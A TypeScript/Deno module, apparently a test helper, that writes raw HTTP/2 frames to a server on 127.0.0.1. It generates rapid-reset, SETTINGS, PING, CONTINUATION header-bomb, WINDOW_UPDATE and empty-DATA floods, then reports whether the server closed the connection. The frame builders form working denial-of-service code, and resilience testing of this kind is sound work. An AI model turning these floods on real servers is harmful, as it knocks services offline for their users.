// SPDX-License-Identifier: Apache-2.0
// Floods over HTTP/2 in cleartext, frame by frame: what no client library would send.

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;

export type Flood = "rapid reset" | "settings" | "pings" | "header bomb" | "window updates" | "empty data";

export const FLOODS: readonly Flood[] = [
  "rapid reset",
  "settings",
  "pings",
  "header bomb",
  "window updates",
  "empty data",
];

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array(0)): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const { length } = payload;
  bytes.set([length >>> 16, length >>> 8 & 255, length & 255, type, flags]);
  bytes.set([stream >>> 24, stream >>> 16 & 255, stream >>> 8 & 255, stream & 255], 5);
  bytes.set(payload, 9);
  return bytes;
}

/** A literal header field without indexing, its name new (RFC 7541, section 6.2.2); both below 127 bytes. */
function field(name: string, value: string): number[] {
  const bytes = (text: string) => [text.length, ...new TextEncoder().encode(text)];
  return [0, ...bytes(name), ...bytes(value)];
}

function request(method: string): Uint8Array {
  const fields = { ":method": method, ":scheme": "http", ":authority": "x", ":path": "/v1/chat/completions" };
  return Uint8Array.from(Object.entries(fields).flatMap(([name, value]) => field(name, value)));
}

/** The frames of a flood, in pieces to be sent one after the other; about `count` of them. */
function* framesOf(flood: Flood, count: number): Generator<Uint8Array[]> {
  const [post, bulk] = [request("POST"), 100];
  const filler = Uint8Array.from(Array.from({ length: 60 }, (_, i) => field(`x-${i}`, "a".repeat(100))).flat());
  if (flood === "header bomb") yield [frame(FRAME.headers, 0, 1, post)];
  if (flood === "empty data") yield [frame(FRAME.headers, END_HEADERS, 1, post)];
  for (let sent = 0; sent < count; sent += bulk) {
    yield Array.from({ length: bulk }, (_, i) => {
      const stream = 2 * (sent + i) + 1;
      switch (flood) {
        case "rapid reset":
          return [
            frame(FRAME.headers, END_HEADERS, stream, post),
            frame(FRAME.reset, 0, stream, Uint8Array.of(0, 0, 0, 8)),
          ];
        case "settings":
          return [frame(FRAME.settings, 0, 0, Uint8Array.of(0, 3, 0, 0, 0, 100))];
        case "pings":
          return [frame(FRAME.ping, 0, 0, new Uint8Array(8))];
        case "header bomb":
          return [frame(FRAME.continuation, 0, 1, filler)];
        case "window updates":
          return [frame(FRAME.window, 0, 0, Uint8Array.of(0, 0, 0, 1))];
        case "empty data":
          return [frame(FRAME.data, i === bulk && sent + bulk >= count ? END_STREAM : 0, 1)];
      }
    }).flat();
  }
}

/**
 * Sends a flood and reads nothing. Resolves with the frames that were sent when the server ended it, or all were sent, or
 * it took nothing for a second.
 */
export async function flood(port: number, kind: Flood, count: number): Promise<{ sent: number; ended: boolean }> {
  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
  let sent = 0;
  try {
    await write(connection, new TextEncoder().encode(PREFACE));
    await write(connection, frame(FRAME.settings, 0, 0));
    for (const frames of framesOf(kind, count)) {
      for (const one of frames) await write(connection, one);
      sent += frames.length;
    }
    return { sent, ended: false };
  } catch {
    return { sent, ended: true };
  }
}

const STUCK_MS = 1_000;

async function write(connection: Deno.Conn, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.length;) {
    const { promise, reject } = Promise.withResolvers<never>();
    const timer = setTimeout(() => reject(new Error("it takes nothing")), STUCK_MS);
    try {
      at += await Promise.race([connection.write(bytes.subarray(at)), promise]);
    } finally {
      clearTimeout(timer);
    }
  }
}
